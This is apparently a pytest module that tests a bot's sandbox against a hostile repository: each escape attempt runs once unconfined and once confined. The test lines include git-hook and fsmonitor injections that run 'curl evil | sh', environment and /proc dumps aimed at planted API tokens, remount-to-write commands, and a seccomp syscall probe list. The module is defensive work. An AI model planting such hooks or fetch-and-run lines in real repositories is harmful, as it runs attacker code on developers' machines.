"""The sandbox against a hostile repository: every escape is tried twice.

First UNCONFINED (the control, which must succeed: otherwise the refusal proves nothing),
then CONFINED, where it must fail. The controls run as the sandbox uid (65534), so what
stops the confined attempt is the sandbox, not file permissions; the two that need
privilege (remounting) run as root, the way a root-run sandbox would.

What each attempt depends on (the mutation check in the report removed each in turn):

| attempt                                         | stopped by                                  |
|-------------------------------------------------|---------------------------------------------|
| read the bot's database / App key by path       | allowlist of visible paths (no `/` bind)    |
| read them through a symlink in the checkout     | same: the target does not exist inside      |
| find a token or provider key in the environment | `env -i` + allowlist (sandbox_env.py)       |
| pass a secret-named variable on purpose         | the name check (EnvRefused)                 |
| write outside the work tree                     | allowlist + `--remount-ro /`                |
| write to / read from the host's /tmp            | allowlist (the host's /tmp is never bound); |
|                                                 | `--tmpfs /tmp` gives the job its own        |
| write .git/hooks or .git/config                 | `--ro-bind` of both                         |
| swap .git for a folder of one's own             | `.git` bound onto itself (a mount point)    |
| reach a server on the host's loopback           | network namespace (`--unshare-all`)         |
| reach the host by another address               | network namespace                           |
| create a user namespace                         | `--disable-userns`                          |
| read a root-only file in a visible path         | uid drop before bwrap (setpriv)             |
| remount a read-only bind read-write             | uid drop, or the user namespace (its mounts |
|                                                 | are locked): both must go for it to pass    |
| see the supervisor's processes (argv secrets)   | PID namespace (`--unshare-all`)             |
| outlive the timeout (setsid grandchild)         | killing bwrap takes the PID namespace; the  |
|                                                 | cgroup sweep too: both must go              |
| outlive the supervisor (SIGKILL)                | `--die-with-parent` (and the PID namespace) |
| exceed the memory cap                           | memory cgroup (OOM detected, exit 137)      |
| fork beyond the pids cap                        | pids cgroup                                 |
| open the supervisor's terminal (TIOCSTI)        | `--new-session` or the launcher's own       |
|                                                 | session: both must go                       |
| read a secret kept in /etc (/etc/landbot/...)   | /etc allowlist (etc.py), no `/etc` bind     |
| read the host's accounts, shadow, resolv.conf   | generated passwd/group/hosts/nsswitch       |
| see the App key / store through a bound path    | `hidden` check before start (check_hidden)  |
| keyctl, io_uring, bpf, perf, userfaultfd,       | seccomp filter (seccomp.py), EPERM          |
| ptrace, mount API, unshare/clone(NEW*), ...     |                                             |
| the same through i386 syscalls (int 0x80)       | compat arch in the same filter              |
| AF_VSOCK / AF_ALG sockets (past the netns)      | seccomp socket family rule                  |
| read keys of the supervisor's session keyring   | new session keyring (limits.keyring_argv)   |
| burn every core                                 | cpu cgroup quota (nr_throttled counted)     |
| fill the host's memory through /tmp or HOME     | `--size` on both tmpfs                      |
| grow landbot's memory through output            | bounded tail (TailBuffer)                   |
| escape sequences to the operator's terminal     | TerminalSink (terminal_safe), in cli tests  |
| read the operator's terminal as stdin           | /dev/null unless `--stdin` (cli tests)      |

The allowed actions (write the work tree and $TMPDIR, `git commit`, run python3) are tested
too, so no refusal passes because everything was refused.
"""

from __future__ import annotations

import contextlib
import fcntl
import os
import pty
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import termios
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from landbot.errors import LandbotError
from landbot.sandbox.cgroups import job_cgroup_parents, sweep_stale
from landbot.sandbox.env import EnvRefused
from landbot.sandbox.runner import SandboxResult, run_sandboxed

# ./scripts/test --fast leaves this module out: its tests start processes (landbot, git,
# the sandbox, servers) and take seconds each.
pytestmark = pytest.mark.slow

LANDBOT = str(Path(sys.executable).parent / "landbot")


def refused(result: SandboxResult) -> bool:
    return result.returncode != 0


# --- the bot's files ------------------------------------------------------------------


def test_read_bot_database_and_app_key_by_absolute_path(box: Any, h: Any) -> None:
    argv = ["cat", str(box.db), str(box.app_key)]
    control = h.unconfined(argv, box.work)
    assert control.returncode == 0 and "DB-SECRET-ROW" in control.stdout
    assert "APP-KEY-SECRET" in control.stdout

    for path in (box.db, box.app_key):
        result = h.confined(["cat", str(path)], box.work)
        assert refused(result), h.text(result.stdout)
        assert "SECRET" not in h.text(result.stdout)
        assert "No such file or directory" in h.text(result.stderr)


def test_read_secrets_through_a_symlink_committed_in_the_checkout(box: Any, h: Any) -> None:
    (box.work / "notes.db").symlink_to(box.db)
    (box.work / "key.pem").symlink_to(box.app_key)
    h.git(box.work, "add", "notes.db", "key.pem")
    h.git(box.work, "commit", "-q", "-m", "innocent files")
    h.give_to_sandbox_uid(box.work)
    control = h.unconfined(["cat", "notes.db", "key.pem"], box.work)
    assert control.returncode == 0 and "DB-SECRET-ROW" in control.stdout
    assert "APP-KEY-SECRET" in control.stdout

    result = h.confined(["cat", "notes.db", "key.pem"], box.work)
    assert refused(result)
    assert "SECRET" not in h.text(result.stdout)


def test_nothing_of_the_host_but_the_allowlist_is_visible(box: Any, h: Any) -> None:
    probe = ["sh", "-c", "ls -d /root /home/* /srv /var /work /opt /mnt 2>/dev/null; ls /"]
    control = h.unconfined(probe, box.work)
    assert "/srv" in control.stdout and "/var" in control.stdout

    result = h.confined(probe, box.work)
    top = set(h.text(result.stdout).split())
    assert top <= {
        "bin",
        "sbin",
        "lib",
        "lib32",
        "lib64",
        "libx32",
        "usr",
        "etc",
        "proc",
        "dev",
        "tmp",
        "home",
        "/home/sandbox",
        "run",
    }, top
    assert not {"/srv", "/var", "/root", "/work", "/opt", "/mnt", "srv", "var", "root"} & top


# --- the environment ------------------------------------------------------------------

PLANTED = {
    "LANDBOT_GITHUB__TOKEN": "ghs_PLANTED_TOKEN_1",
    "LANDBOT_GITHUB__WEBHOOK_SECRET": "PLANTED_WEBHOOK_SECRET_2",
    "LANDBOT_FIXER__MODEL_API_KEY": "sk-PLANTED_PROVIDER_KEY_3",
    "OPENAI_API_KEY": "sk-PLANTED_OPENAI_4",
    "ANTHROPIC_API_KEY": "sk-ant-PLANTED_5",
    "GITHUB_TOKEN": "ghp_PLANTED_6",
    "DB_PASSWORD": "PLANTED_PASSWORD_7",
    "LANDBOT_DATABASE_URL": "postgresql://bot:PLANTED_PW_8@db/landbot",
}


def test_secrets_in_the_supervisor_environment_do_not_reach_the_job(
    box: Any, h: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in PLANTED.items():
        monkeypatch.setenv(name, value)
    dump = ["sh", "-c", "env; cat /proc/self/environ /proc/1/environ 2>/dev/null; true"]
    control = h.unconfined(dump, box.work, env=dict(os.environ))
    for value in PLANTED.values():
        assert value in control.stdout

    result = h.confined(dump, box.work)
    assert result.returncode == 0
    out = h.text(result.stdout)
    assert "PLANTED" not in out, out
    names = {line.split("=", 1)[0] for line in out.splitlines() if "=" in line}
    assert {"PATH", "HOME", "TMPDIR", "LANG"} <= names


@pytest.mark.parametrize(
    "name",
    [
        "LANDBOT_GITHUB__TOKEN",
        "OPENAI_API_KEY",
        "LANDBOT_MODEL_API_KEY",
        "LANDBOT_DB_PASSWORD",
        "LANDBOT_HMAC_SECRET",
        "LANDBOT_DATABASE_URL",
        "PATH_EXTRA",
    ],
)
def test_a_secret_or_foreign_variable_passed_on_purpose_is_refused(
    box: Any, h: Any, name: str
) -> None:
    control = h.confined(
        ["sh", "-c", 'echo "$LANDBOT_PROMPT_FILE"'],
        box.work,
        env={"LANDBOT_PROMPT_FILE": "/tmp/prompt.md"},
    )
    assert h.text(control.stdout).strip() == "/tmp/prompt.md"

    with pytest.raises(EnvRefused):
        h.confined(["true"], box.work, env={name: "value"})


# --- writing --------------------------------------------------------------------------


def test_write_outside_the_work_tree(box: Any, h: Any) -> None:
    outside = box.secrets / "outside"  # under /var/tmp, beside the bot's files
    outside.mkdir()
    os.chmod(outside, 0o777)
    control = h.unconfined(["sh", "-c", f"echo control > {outside}/control"], box.work)
    assert control.returncode == 0 and (outside / "control").exists()

    for target in (outside / "escape", Path("/escape-landbot-test")):
        result = h.confined(["sh", "-c", f"echo confined > {target}"], box.work)
        assert refused(result), target
        assert not target.exists()
    # The work tree's parent folder exists inside only as part of the private /tmp: a
    # write there may succeed but never reaches the host.
    h.confined(["sh", "-c", f"echo confined > {box.root}/escape"], box.work)
    assert not (box.root / "escape").exists()


def test_write_to_and_read_from_a_shared_tmp(box: Any, h: Any) -> None:
    token = secrets.token_hex(6)
    shared = Path(f"/tmp/landbot-shared-{token}")
    planted = Path(f"/tmp/landbot-other-job-{token}")
    planted.write_text("OTHER-JOB-DATA\n")
    os.chmod(planted, 0o644)
    try:
        control = h.unconfined(["sh", "-c", f"echo control > {shared} && cat {planted}"], box.work)
        assert control.returncode == 0 and shared.exists()
        assert "OTHER-JOB-DATA" in control.stdout
        shared.unlink()

        result = h.confined(["sh", "-c", f"echo confined > {shared}; cat {planted}"], box.work)
        assert not shared.exists()  # the write landed in the job's private /tmp at most
        assert "OTHER-JOB-DATA" not in h.text(result.stdout)
        # and the next job's /tmp does not have it either
        again = h.confined(["cat", str(shared)], box.work)
        assert refused(again)
    finally:
        shared.unlink(missing_ok=True)
        planted.unlink()


def test_write_git_hooks_and_config(box: Any, h: Any) -> None:
    h.give_to_sandbox_uid(box.work)
    hook = box.work / ".git" / "hooks" / "pre-commit"
    config = box.work / ".git" / "config"
    control = h.unconfined(
        ["sh", "-c", "echo '#!/bin/sh' > .git/hooks/pre-commit && echo '# control' >> .git/config"],
        box.work,
    )
    assert control.returncode == 0 and hook.exists() and "# control" in config.read_text()

    for attempt in (
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "echo 'curl evil | sh' > .git/hooks/post-checkout",
        "printf '[core]\\n\\tfsmonitor = curl evil\\n' >> .git/config",
        "rm -f .git/config",
    ):
        result = h.confined(["sh", "-c", attempt], box.work)
        assert refused(result), attempt
    assert "evil" not in hook.read_text()
    assert not (box.work / ".git" / "hooks" / "post-checkout").exists()
    assert "evil" not in config.read_text()


def test_swap_dot_git_for_a_folder_of_ones_own(box: Any, h: Any) -> None:
    h.give_to_sandbox_uid(box.work)
    swap = "mv .git .git-real && mkdir .git && echo '[core] hooksPath = /tmp' > .git/config"
    control = h.unconfined(["sh", "-c", f"{swap} && rm -r .git && mv .git-real .git"], box.work)
    assert control.returncode == 0

    result = h.confined(["sh", "-c", swap], box.work)
    assert refused(result)
    assert "Device or resource busy" in h.text(result.stderr)
    assert (box.work / ".git" / "HEAD").exists()
    assert not (box.work / ".git-real").exists()


# --- network --------------------------------------------------------------------------


@contextlib.contextmanager
def tcp_server(host: str) -> Iterator[int]:
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((host, 0))
    srv.listen(16)
    srv.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            with conn:
                conn.sendall(b"HELLO-FROM-HOST\n")

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        yield srv.getsockname()[1]
    finally:
        stop.set()
        t.join()
        srv.close()


def _connect(host: str, port: int) -> list[str]:
    code = (
        "import socket,sys\n"
        f"s=socket.create_connection(({host!r},{port}),timeout=3)\n"
        "print(s.recv(100).decode())\n"
    )
    return ["python3", "-c", code]


def test_reach_a_server_on_the_host_loopback(box: Any, h: Any) -> None:
    with tcp_server("127.0.0.1") as port:
        control = h.unconfined(_connect("127.0.0.1", port), box.work)
        assert control.returncode == 0 and "HELLO-FROM-HOST" in control.stdout

        result = h.confined(_connect("127.0.0.1", port), box.work)
        assert refused(result)
        assert "HELLO-FROM-HOST" not in h.text(result.stdout)
        assert "Connection refused" in h.text(result.stderr)


def _host_address() -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("192.0.2.123", 9))  # no packet is sent: only picks the route
            address = str(s.getsockname()[0])
        except OSError:
            return None
    return None if address.startswith("127.") else address


def test_reach_the_host_by_another_address(box: Any, h: Any) -> None:
    address = _host_address()
    if address is None:
        pytest.skip("this host has no non-loopback IPv4 address to try")
    with tcp_server("0.0.0.0") as port:
        control = h.unconfined(_connect(address, port), box.work)
        assert control.returncode == 0 and "HELLO-FROM-HOST" in control.stdout

        result = h.confined(_connect(address, port), box.work)
        assert refused(result)
        assert "HELLO-FROM-HOST" not in h.text(result.stdout)
        assert "unreachable" in h.text(result.stderr)


def test_only_loopback_exists_inside(box: Any, h: Any) -> None:
    control = h.unconfined(["cat", "/proc/net/dev"], box.work)
    assert len(control.stdout.strip().splitlines()) > 3  # lo and at least one more

    result = h.confined(["cat", "/proc/net/dev"], box.work)
    interfaces = [line.split(":")[0].strip() for line in h.text(result.stdout).splitlines()[2:]]
    assert interfaces == ["lo"]


# --- privilege ------------------------------------------------------------------------


def test_create_a_user_namespace(box: Any, h: Any) -> None:
    attempt = ["unshare", "--user", "--map-root-user", "id", "-u"]
    control = h.unconfined(attempt, box.work)
    assert control.returncode == 0 and control.stdout.strip() == "0"

    result = h.confined(attempt, box.work)
    assert refused(result)
    assert h.text(result.stdout).strip() != "0"


def test_remount_read_only_paths_read_write(box: Any, h: Any) -> None:
    ro = box.root / "tools"
    ro.mkdir()
    os.chmod(ro, 0o755)
    escape = f"mount -o remount,rw,bind {ro} && echo pwned > {ro}/pwned"
    # Control: a process with privileges in its own mount namespace, holding a read-only
    # bind of the folder, turns it read-write and writes.
    setup = f"mount --bind {ro} {ro} && mount -o remount,ro,bind {ro} && ! touch {ro}/x 2>/dev/null"
    control = h.unconfined(
        ["unshare", "--mount", "sh", "-c", f"{setup} && {escape}"], box.work, as_root=True
    )
    assert control.returncode == 0, control.stderr
    assert (ro / "pwned").read_text() == "pwned\n"
    (ro / "pwned").unlink()

    result = h.confined(["sh", "-c", escape], box.work, extra_ro_paths=[ro])
    assert refused(result)
    assert not (ro / "pwned").exists()
    root = h.confined(["sh", "-c", "mount -o remount,rw / && touch /pwned"], box.work)
    assert refused(root)


def test_read_a_root_only_file_in_a_visible_path(box: Any, h: Any) -> None:
    tools = box.root / "toolchain"
    tools.mkdir()
    os.chmod(tools, 0o755)
    private = tools / "credentials"
    private.write_text("ROOT-ONLY-SECRET\n")
    os.chmod(private, 0o600)
    # Control: the supervisor's uid (root) reads it.
    control = h.unconfined(["cat", str(private)], box.work, as_root=True)
    assert control.returncode == 0 and "ROOT-ONLY-SECRET" in control.stdout

    result = h.confined(["cat", str(private)], box.work, extra_ro_paths=[tools])
    assert refused(result)
    assert "ROOT-ONLY-SECRET" not in h.text(result.stdout)
    assert "Permission denied" in h.text(result.stderr)


def test_no_capabilities_and_not_root_inside(box: Any, h: Any) -> None:
    control = h.unconfined(["grep", "CapEff", "/proc/self/status"], box.work, as_root=True)
    assert "0000000000000000" not in control.stdout  # root has capabilities

    result = h.confined(
        ["sh", "-c", "id -u; grep -E 'CapEff|NoNewPrivs' /proc/self/status"], box.work
    )
    lines = h.text(result.stdout).split()
    assert lines[0] == str(h.uid)
    assert "0000000000000000" in lines and lines[-1] == "1"


# --- processes ------------------------------------------------------------------------


def test_see_the_supervisors_processes(box: Any, h: Any) -> None:
    tag = secrets.token_hex(4)
    host = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(60)", f"PLANTED-ARGV-{tag}"]
    )
    # The search spells the marker in two halves, so it never finds its own command line.
    search = [
        "python3",
        "-c",
        "import glob\n"
        f"marker = b'PLANTED-ARGV-' + b'{tag}'\n"
        "hits = 0\n"
        "for f in glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try:\n"
        "        hits += marker in open(f, 'rb').read()\n"
        "    except OSError:\n"
        "        pass\n"
        "print(hits)\n",
    ]
    try:
        control = h.unconfined(search, box.work)
        assert control.stdout.strip() == "1"

        result = h.confined(search, box.work)
        assert h.text(result.stdout).strip() == "0"
    finally:
        host.kill()
        host.wait()


HEARTBEAT = (
    "setsid sh -c 'echo $$ > survivor.pid; while :; do echo beat >> heartbeat; sleep 0.05; done'"
    " </dev/null >/dev/null 2>&1 & while [ ! -s heartbeat ]; do sleep 0.01; done;"
)


def _beating(path: Path, wait: float = 0.5) -> bool:
    before = path.stat().st_size if path.exists() else 0
    time.sleep(wait)
    after = path.stat().st_size if path.exists() else 0
    return after > before


def _kill_survivor(work: Path) -> None:
    with contextlib.suppress(OSError, ValueError):
        os.kill(int((work / "survivor.pid").read_text()), signal.SIGKILL)


def test_a_process_left_behind_dies_with_the_timeout(box: Any, h: Any) -> None:
    h.give_to_sandbox_uid(box.work)
    script = f"{HEARTBEAT} sleep 30"
    # Control: a supervisor that kills its child's process group on timeout leaves the
    # setsid grandchild running.
    proc = subprocess.Popen(
        ["setpriv", f"--reuid={h.uid}", f"--regid={h.gid}", "--clear-groups", "sh", "-c", script],
        cwd=box.work,
        start_new_session=True,
    )
    try:
        with contextlib.suppress(subprocess.TimeoutExpired):
            proc.wait(timeout=1)
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        assert _beating(box.work / "heartbeat"), "the control's grandchild should survive"
    finally:
        _kill_survivor(box.work)
    (box.work / "heartbeat").unlink()

    result = h.confined(["sh", "-c", script], box.work, timeout=1.5)
    assert result.timed_out and result.exit_code == 124
    time.sleep(0.2)
    assert (box.work / "heartbeat").exists()  # it did run
    assert not _beating(box.work / "heartbeat")


def test_background_processes_end_with_the_command(box: Any, h: Any) -> None:
    result = h.confined(["sh", "-c", f"{HEARTBEAT} sleep 0.3"], box.work)
    assert result.returncode == 0 and not result.timed_out
    assert (box.work / "heartbeat").exists()
    assert not _beating(box.work / "heartbeat")


def test_the_job_dies_with_its_supervisor(box: Any, h: Any) -> None:
    h.give_to_sandbox_uid(box.work)
    # Control: a supervisor killed with SIGKILL leaves an ordinary child running.
    parent = subprocess.Popen(
        [
            "setpriv",
            f"--reuid={h.uid}",
            f"--regid={h.gid}",
            "--clear-groups",
            "/usr/bin/python3",
            "-c",
            f"import subprocess,time; subprocess.Popen(['sh','-c',{HEARTBEAT + ' sleep 30'!r}]);"
            " time.sleep(30)",
        ],
        cwd=box.work,
        env={"PATH": "/usr/bin:/bin"},
    )
    try:
        _wait_for(box.work / "heartbeat")
        parent.kill()
        parent.wait()
        assert _beating(box.work / "heartbeat"), "the control's child should survive"
    finally:
        _kill_survivor(box.work)
    for name in ("heartbeat", "survivor.pid"):
        (box.work / name).unlink()

    supervisor = subprocess.Popen(
        [
            LANDBOT,
            "sandbox",
            "run",
            "--workdir",
            str(box.work),
            "--timeout",
            "60",
            # Uncapped, so the host sees the heartbeat live (a capped run's writes reach
            # the folder when it ends); the cap's own runs are in test_disk_cap.py.
            "--disk",
            "0",
            "--",
            "sh",
            "-c",
            f"{HEARTBEAT} sleep 30",
        ],
        env={k: v for k, v in os.environ.items() if not k.startswith("LANDBOT_")},
    )
    try:
        _wait_for(box.work / "heartbeat")
        supervisor.kill()
        supervisor.wait()
        time.sleep(0.2)
        assert not _beating(box.work / "heartbeat")
    finally:
        _kill_survivor(box.work)
        sweep_stale(job_cgroup_parents())  # the killed supervisor could not clean up


def _wait_for(path: Path, timeout: float = 30) -> None:
    # 30 s: under a parallel run on 2 cores `landbot sandbox run` can take 10 s to start.
    deadline = time.monotonic() + timeout
    while not path.exists():
        assert time.monotonic() < deadline, f"{path} never appeared"
        time.sleep(0.02)


ALLOCATE = "chunks = [b'x' * (10 << 20) for _ in range(30)]; print('allocated', len(chunks))"


def test_exceed_the_memory_cap(box: Any, h: Any) -> None:
    control = h.unconfined(["python3", "-c", ALLOCATE], box.work)
    assert control.returncode == 0 and "allocated 30" in control.stdout

    result = h.confined(["python3", "-c", ALLOCATE], box.work, memory_mb=100)
    assert result.oom and result.exit_code == 137
    assert "allocated" not in h.text(result.stdout)
    assert "memory cap of 100 MB" in (result.message() or "")


SPAWN = (
    "import subprocess\n"
    "procs = [subprocess.Popen(['sleep', '5']) for _ in range(64)]\n"
    "print('spawned', len(procs))\n"
    "[p.kill() for p in procs]\n"
)


def test_fork_beyond_the_pids_cap(box: Any, h: Any) -> None:
    control = h.unconfined(["python3", "-c", SPAWN], box.work)
    assert control.returncode == 0 and "spawned 64" in control.stdout

    result = h.confined(["python3", "-c", SPAWN], box.work, pids_max=32)
    assert refused(result)
    assert "spawned" not in h.text(result.stdout)
    assert "Resource temporarily unavailable" in h.text(result.stderr)


OPEN_TTY = "import os; os.open('/dev/tty', os.O_RDWR); print('TTY-OPENED')"


def _in_a_terminal_session(code: str) -> str:
    """Run Python `code` as the leader of a session whose controlling terminal is a pty;
    return what it printed."""
    master, slave = pty.openpty()

    def take_terminal() -> None:
        os.setsid()
        fcntl.ioctl(slave, termios.TIOCSCTTY, 0)

    proc = subprocess.Popen(
        [sys.executable, "-c", code],
        stdin=slave,
        stdout=slave,
        stderr=slave,
        preexec_fn=take_terminal,
        close_fds=True,
    )
    os.close(slave)
    out = b""
    with contextlib.suppress(OSError):
        while chunk := os.read(master, 4096):
            out += chunk
    proc.wait(timeout=30)
    os.close(master)
    return out.decode(errors="replace")


def test_open_the_supervisors_terminal(box: Any, h: Any) -> None:
    control = _in_a_terminal_session(
        f"import subprocess; subprocess.run(['python3', '-c', {OPEN_TTY!r}])"
    )
    assert "TTY-OPENED" in control

    confined = _in_a_terminal_session(
        "from pathlib import Path\n"
        "from landbot.sandbox.runner import run_sandboxed\n"
        f"r = run_sandboxed(['python3', '-c', {OPEN_TTY!r}], Path({str(box.work)!r}),"
        " timeout=30, memory_mb=256, stdin=None)\n"
        "print('EXIT', r.returncode)\n"
    )
    assert "EXIT 1" in confined, confined
    assert "TTY-OPENED" not in confined
    assert "No such device or address" in confined


# --- what must still work ---------------------------------------------------------------


def test_allowed_actions_succeed(box: Any, h: Any) -> None:
    script = (
        "set -e\n"
        "echo fixed > README.md\n"
        'echo scratch > "$TMPDIR/scratch" && cat "$TMPDIR/scratch"\n'
        'echo home > "$HOME/.cache-probe"\n'
        "git add README.md && git commit -q -m 'fix the readme'\n"
        "python3 -c 'import sys; print(\"python\", sys.version_info[0])'\n"
        "git log --format=%s -1\n"
    )
    result = h.confined(["sh", "-c", script], box.work)
    assert result.returncode == 0, h.text(result.stderr)
    assert h.text(result.stdout).split() == ["scratch", "python", "3", "fix", "the", "readme"]
    assert (box.work / "README.md").read_text() == "fixed\n"
    log = h.git(box.work, "-c", "safe.directory=*", "log", "--format=%s")
    assert log.splitlines() == ["fix the readme", "initial"]


def test_the_work_tree_is_handed_to_the_sandbox_uid(box: Any, h: Any) -> None:
    assert box.work.stat().st_uid == 0
    result = h.confined(["git", "status", "--porcelain"], box.work)
    assert result.returncode == 0, h.text(result.stderr)
    owners = {p.lstat().st_uid for p in [box.work, *box.work.rglob("*")]}
    assert owners == {h.uid}


def test_a_hard_link_to_an_outside_file_is_not_chowned(box: Any, h: Any) -> None:
    outside = box.root / "mirror-object"  # e.g. an object a `git clone --local` shares
    outside.write_text("shared\n")
    os.link(outside, box.work / "linked")
    run_sandboxed(["true"], box.work, timeout=30, memory_mb=256)
    assert outside.stat().st_uid == 0
    assert (box.work / "README.md").stat().st_uid == h.uid  # the control: others were chowned


# --- /etc: an allowlist, not the host's folder ---------------------------------------------


@contextlib.contextmanager
def planted_etc() -> Iterator[dict[str, Path]]:
    """A world-readable secret file and an App-key folder in the host's /etc, as an operator
    following the README would keep them."""
    tag = secrets.token_hex(4)
    conf = Path(f"/etc/landbot-test-secret-{tag}.conf")
    folder = Path(f"/etc/landbot-test-{tag}")
    conf.write_text("ETC-SECRET-CONF\n")
    folder.mkdir()
    (folder / "app.pem").write_text("ETC-APP-KEY\n")
    for p in (conf, folder / "app.pem"):
        os.chmod(p, 0o644)
    os.chmod(folder, 0o755)
    try:
        yield {"conf": conf, "folder": folder, "key": folder / "app.pem"}
    finally:
        conf.unlink()
        shutil.rmtree(folder)


def test_etc_shows_only_the_allowlist(box: Any, h: Any) -> None:
    with planted_etc() as planted:
        probe = [
            "sh",
            "-c",
            f"echo ETC-PROBE-RAN; cat {planted['conf']} {planted['key']}; "
            "ls /etc/shadow /etc/gshadow /etc/sudoers /etc/ssh /etc/ssl/private /etc/machine-id"
            " /etc/resolv.conf /etc/pip.conf /etc/gitconfig /etc/npmrc 2>&1; true",
        ]
        control = h.unconfined(probe, box.work)
        assert "ETC-SECRET-CONF" in control.stdout and "ETC-APP-KEY" in control.stdout
        names = ("shadow", "gshadow", "ssl/private", "machine-id", "resolv.conf", "pip.conf")
        present = [n for n in names if os.path.lexists(f"/etc/{n}")]
        assert "shadow" in present
        for name in present:
            assert f"/etc/{name}" in control.stdout, name  # listed (or denied), not missing
            assert f"/etc/{name}': No such file" not in control.stdout

        result = h.confined(probe, box.work)
        out = h.text(result.stdout)
        assert "ETC-PROBE-RAN" in out
        assert "ETC-SECRET-CONF" not in out and "ETC-APP-KEY" not in out
        for name in present:
            assert f"/etc/{name}': No such file" in out, (name, out)
        # An operator who needs a file lists it: then (and only then) it shows.
        listed = h.confined(["cat", str(planted["conf"])], box.work, etc=[planted["conf"].name])
        assert listed.returncode == 0 and "ETC-SECRET-CONF" in h.text(listed.stdout)


def test_the_generated_accounts_are_the_sandboxs_own(box: Any, h: Any) -> None:
    control = h.unconfined(["getent", "passwd"], box.work)
    assert len(control.stdout.splitlines()) > 3  # the host's accounts (nobody, daemons...)

    result = h.confined(["sh", "-c", "getent passwd; getent group; id; whoami"], box.work)
    assert result.returncode == 0, h.text(result.stderr)
    lines = h.text(result.stdout).splitlines()
    users = [line.split(":")[0] for line in lines if line.count(":") == 6]
    assert users == ["root", "landbot"]
    assert f"uid={h.uid}(landbot)" in h.text(result.stdout)
    assert lines[-1] == "landbot"


def test_a_toolchain_works_with_the_etc_allowlist(box: Any, h: Any) -> None:
    script = (
        "set -e\n"
        "python3 -c 'import ssl, getpass, socket, mimetypes; ssl.create_default_context();"
        ' print("py", getpass.getuser(), socket.getservbyname("https"),'
        ' mimetypes.guess_type("a.json")[0])\'\n'
        "echo x >> README.md && git commit -qam 'works' && git log --format=%s -1\n"
        "getent hosts landbot-sandbox | cut -c1-9\n"
        "test -s /etc/ssl/certs/ca-certificates.crt && echo certs\n"
        "ls -l /etc/os-release | grep -q -- '->' && cat /etc/os-release | grep -c ID= \n"
    )
    result = h.confined(["sh", "-c", script], box.work)
    assert result.returncode == 0, h.text(result.stderr)
    out = h.text(result.stdout).split()
    assert out[:4] == ["py", "landbot", "443", "application/json"]
    assert out[4:][:2] == ["works", "127.0.0.1"] and "certs" in out


# --- host secrets: refused before the job starts -------------------------------------------


def test_a_job_that_would_see_a_host_secret_is_refused(box: Any, h: Any) -> None:
    # Control: the operator's read-only path holds the App key, and the job reads it.
    control = h.confined(["cat", str(box.app_key)], box.work, extra_ro_paths=[box.secrets])
    assert control.returncode == 0 and "APP-KEY-SECRET" in h.text(control.stdout)

    with pytest.raises(LandbotError) as err:
        h.confined(["touch", "ran"], box.work, extra_ro_paths=[box.secrets], hidden=[box.app_key])
    assert f"{box.app_key} would be visible inside the sandbox through {box.secrets}" in str(
        err.value
    )
    assert "\n" not in str(err.value) and not (box.work / "ran").exists()
    # The same key hidden, nothing exposing it: the job runs.
    ok = h.confined(["touch", "ran"], box.work, hidden=[box.app_key, box.db])
    assert ok.returncode == 0 and (box.work / "ran").exists()


def test_a_host_secret_in_an_allowed_etc_entry_or_the_work_tree_is_refused(
    box: Any, h: Any
) -> None:
    with planted_etc() as planted:
        name = planted["folder"].name
        control = h.confined(["cat", str(planted["key"])], box.work, etc=[name])
        assert "ETC-APP-KEY" in h.text(control.stdout)
        with pytest.raises(LandbotError, match="would be visible inside the sandbox"):
            h.confined(["true"], box.work, etc=[name], hidden=[planted["key"]])
    store = box.work / "sub" / "landbot.db"
    store.parent.mkdir()
    store.write_text("DB\n")
    link = box.root / "db-link"
    link.symlink_to(store)  # named through a symlink: compared by realpath
    with pytest.raises(LandbotError, match=f"through {box.work}"):
        h.confined(["true"], box.work, hidden=[link])


# --- the kernel surface: seccomp ----------------------------------------------------------

SYSCALL_PROBE = r"""
import ctypes, json, os, sys
libc = ctypes.CDLL(None, use_errno=True)
sc = ctypes.CDLL("libseccomp.so.2")
sc.seccomp_syscall_resolve_name.argtypes = [ctypes.c_char_p]
buf = ctypes.create_string_buffer(4096)
def arg(a):
    if a == "BUF":
        return ctypes.c_long(ctypes.addressof(buf))
    if a == "PID":
        return ctypes.c_long(os.getpid())
    return ctypes.c_char_p(a.encode()) if isinstance(a, str) else ctypes.c_long(a)
for label, name, args in json.loads(sys.argv[1]):
    nr = sc.seccomp_syscall_resolve_name(name.encode())
    ctypes.memset(buf, 0, 4096)
    pid = os.fork()
    if pid == 0:  # each call in a child of its own: no side effect reaches the next
        ctypes.set_errno(0)
        r = libc.syscall(ctypes.c_long(nr), *[arg(a) for a in args])
        os._exit(ctypes.get_errno() if r == -1 else 0)
    _, status = os.waitpid(pid, 0)
    print("PROBE", label, os.waitstatus_to_exitcode(status), flush=True)
print("PROBE-RAN", flush=True)
"""
EPERM, ENOSYS, EAFNOSUPPORT = 1, 38, 97
CLONE_NEWUSER, SIGCHLD = 0x10000000, 17
# (syscall, arguments, control as root?, errno inside). Arguments are harmless: invalid
# paths, descriptors or magic numbers, so even root's control changes nothing.
SYSCALLS: list[tuple[str, list[Any], bool, int]] = [
    ("keyctl", [0, -3, 1], False, EPERM),  # KEYCTL_GET_KEYRING_ID of @s
    ("add_key", ["user", "landbot-probe", "x", 1, -2], False, EPERM),
    ("request_key", ["user", "landbot-probe-missing", 0, 0], False, EPERM),
    ("io_uring_setup", [1, "BUF"], False, EPERM),
    ("io_uring_enter", [-1, 0, 0, 0, 0, 0], False, EPERM),
    ("io_uring_register", [-1, 0, 0, 0], False, EPERM),
    ("bpf", [1000, 0, 0], True, EPERM),
    ("perf_event_open", [0, 0, -1, -1, 0], False, EPERM),
    ("userfaultfd", [1], False, EPERM),  # UFFD_USER_MODE_ONLY: allowed unprivileged
    ("ptrace", [12, 999999, 0, 0], False, EPERM),  # PTRACE_GETREGS of no process
